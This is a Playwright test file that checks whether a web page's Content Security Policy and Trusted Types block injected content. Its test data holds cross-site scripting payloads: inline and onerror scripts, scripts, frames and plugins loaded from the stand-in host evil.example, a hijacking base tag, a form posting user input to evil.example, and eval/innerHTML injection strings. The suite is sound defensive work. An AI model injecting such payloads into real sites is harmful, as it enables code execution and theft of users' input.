import type { Page } from '@playwright/test';
import { expect, test } from './journey.ts';

/** Opens the page with something injected, from a host that sends no policy: the one in the page must do. */
async function openWith(page: Page, injected: { markup?: string; script?: string }) {
  await page.route(/\/(\?.*)?$/, async (route) => {
    const answer = await route.fetch();
    const body = (await answer.text()).replace('<div id="root">', `${injected.markup ?? ''}<div id="root">`);
    await route.fulfill({ contentType: 'text/html', body });
  });
  await page.route('**/first-paint.js', async (route) => {
    const own = await (await route.fetch()).text();
    await route.fulfill({ contentType: 'text/javascript', body: `${own}\n${injected.script ?? ''}` });
  });
  await page.goto('./');
  await expect(page.getByTestId('graph')).toBeVisible();
}

function harm(page: Page) {
  return page.evaluate(() => document.documentElement.getAttribute('data-harm'));
}

const doHarm = "document.documentElement.setAttribute('data-harm', 'done')";

test.describe('the policy blocks', () => {
  test.beforeEach(({ faults }) => {
    faults.expect(/Content Security Policy|Trusted|policy violation|foreign request: https:\/\/evil\.example/);
  });

  const markups = {
    'an inline script': `<script>${doHarm}</script>`,
    'an inline handler': `<img src="missing.png" onerror="${doHarm}">`,
    'a script from elsewhere': '<script src="https://evil.example/harm.js"></script>',
    'a script in a data address': `<script src="data:text/javascript,${doHarm}"></script>`,
    'a frame': '<iframe src="https://evil.example/"></iframe>',
    'a plugin': '<object data="https://evil.example/harm.swf"></object>',
  };
  for (const [what, markup] of Object.entries(markups)) {
    test(what, async ({ page, faults }) => {
      faults.expect(/404/);
      const answers: string[] = [];
      page.on('response', (response) => answers.push(response.url()));
      await openWith(page, { markup });
      expect(await harm(page)).toBeNull();
      expect(answers.filter((url) => url.includes('evil.example'))).toEqual([]);
    });
  }

  test('another base for all addresses', async ({ page }) => {
    await openWith(page, { markup: '<base href="https://evil.example/">' });
    expect(await page.evaluate(() => document.baseURI)).toBe(page.url());
  });

  test('a form that sends what the reader typed elsewhere', async ({ page }) => {
    await openWith(page, { markup: '<form action="https://evil.example/"><button id="send">Send</button></form>' });
    const address = page.url();
    const refusal = page.waitForEvent('console', (message) => message.text().includes('form-action'));
    // By script: a click through Playwright waits for the navigation that the policy has stopped.
    await page.evaluate(() => document.querySelector<HTMLButtonElement>('#send')?.click());
    await refusal;
    expect(page.url()).toBe(address);
  });

  const scripts = {
    eval: `eval("${doHarm}")`,
    'a function made of text': `new Function("${doHarm}")()`,
    'a timer with text': `setTimeout("${doHarm}")`,
    'markup made of text': `document.documentElement.innerHTML = '<b data-harm="done"></b>'`,
    'a script address made of text': `document.createElement('script').src = 'https://evil.example/harm.js'; ${doHarm}`,
    'a foreign trusted-types policy': `trustedTypes.createPolicy('evil', { createHTML: (text) => text }); ${doHarm}`,
  };
  for (const [what, script] of Object.entries(scripts)) {
    test(what, async ({ page }) => {
      const stopped = `try { ${script} } catch { document.documentElement.setAttribute('data-stopped', '') }`;
      await openWith(page, { script: stopped });
      await expect(page.locator('html')).toHaveAttribute('data-stopped', '');
      expect(await harm(page)).toBeNull();
    });
  }
});
